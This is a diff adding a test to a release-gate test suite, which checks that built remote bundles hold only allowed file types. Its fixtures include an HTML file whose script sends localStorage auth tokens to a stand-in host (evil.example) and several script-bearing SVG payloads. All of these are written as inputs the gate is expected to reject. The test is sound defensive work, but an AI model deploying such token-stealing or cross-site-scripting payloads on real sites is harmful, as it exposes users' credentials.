@@ -1,8 +1,9 @@
 // The gate as a pure function, against a host contract read from a built host's manifest; and the
 // parts of a request it relies on (If-Match, override origins).
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
+import { brotliCompressSync, gzipSync } from 'node:zlib';
 import { writeRemoteBuild } from '../../test/remote-builds';
 import { checkRelease } from './gate';
 import { hostContract, packageOf } from './host-contract';
@@ -41,6 +42,28 @@ describe('the release gate', () => {
     expect(codes({ shared: { react: '^18.0.0' } })).toEqual(['shared_range']);
     expect(codes({ shared: { react: 'not a range' } })).toEqual(['shared_range']);
     expect(codes({ gitSha: 'XYZ' })).toEqual(['schema']);
+  });
+
+  test('a release holds only the files a built remote is made of; an HTML page or an SVG with script is refused with file_type (issue 30 item 2)', () => {
+    const host = { contractVersion: '2.4.1', provided: (pkg: string) => ({ react: '19.1.0' })[pkg] };
+    const build = (extra: Record<string, string | Buffer>) => {
+      rmSync(dir, { recursive: true, force: true });
+      const folder = writeRemoteBuild(dir, 'comms', { portal: { contractVersion: '2.3.0', shared: { react: '^19.0.0' } } });
+      for (const [name, bytes] of Object.entries(extra)) {
+        mkdirSync(path.dirname(path.join(folder, name)), { recursive: true });
+        writeFileSync(path.join(folder, name), bytes);
+      }
+      const result = checkRelease(folder, 'comms', host);
+      return result.ok ? [] : result.reasons.map((reason) => `${reason.code}: ${reason.message.split('"')[1]}`);
+    };
+    const icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0h1v1z"/></svg>';
+    expect(build({ 'a.css': 'b{}', 'a.js.map': '{}', 'a.mjs': '', 'a.js.br': brotliCompressSync(''), 'a.css.gz': gzipSync('b{}'), 'f/x.woff2': '', 'i/x.png': '', 'i/x.webp': '', 'i/icon.svg': icon, 'i/icon.svg.gz': gzipSync(icon) })).toEqual([]);
+    expect(build({ 'steal.html': '<script>fetch("//evil.example?"+localStorage.authTokens)</script>' })).toEqual(['file_type: steal.html']);
+    expect(build({ 'deep/page.htm': '', 'x.txt': '', LICENSE: '', 'a.js.zip': '', 'run.js.exe': '' }).sort()).toEqual(['file_type: LICENSE', 'file_type: a.js.zip', 'file_type: deep/page.htm', 'file_type: run.js.exe', 'file_type: x.txt']);
+    for (const svg of ['<svg><script>alert(1)</script></svg>', '<svg onload="alert(1)"/>', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><foreignObject><iframe src="/"/></foreignObject></svg>']) {
+      expect(build({ 'i/evil.svg': svg })).toEqual(['file_type: i/evil.svg']);
+      expect(build({ 'i/evil.svg.br': brotliCompressSync(svg) })).toEqual(['file_type: i/evil.svg.br']);
+    }
   });
 
   test('If-Match: an id, quoted or not, weak or not; * and "" for none; absent is undefined', () => {
